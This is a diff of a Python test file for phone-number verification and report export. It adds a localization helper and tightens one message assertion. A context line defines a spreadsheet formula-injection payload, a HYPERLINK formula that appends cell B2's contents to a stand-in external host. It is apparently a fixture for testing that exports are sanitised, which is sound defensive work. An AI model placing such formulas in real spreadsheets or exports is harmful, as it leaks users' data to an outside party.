@@ -22,6 +22,7 @@ from storage.db import Database
 from storage.reports import EXPORT_COLUMNS
 from tests.conftest import ADMIN_ID
 from tests.service.test_activities import draft
+from tests.wording import en
 
 FORMULA = '=HYPERLINK("http://x.example/?"&B2,"详情")'
 LABELS = {"phone_verified": "是", "phone_unverified": "否"}
@@ -116,7 +117,7 @@ async def test_item9_a_verified_contact_takes_a_typed_number_over(
         assert [v.id for v in await services.roles.search(admin, fragment)] == []
     # The squatter is told, in their language, through the outbox, to confirm their own.
     [(kind, text)] = await _outbox(db, 1)
-    assert kind == "phone_released" and "Share my phone number" in text
+    assert kind == "phone_released" and text == en("phone.released")
     assert "13800138000" not in text
     # They confirm their own number by sharing it.
     mine = await services.registration.change_phone(1, "13900139000", shared=True)
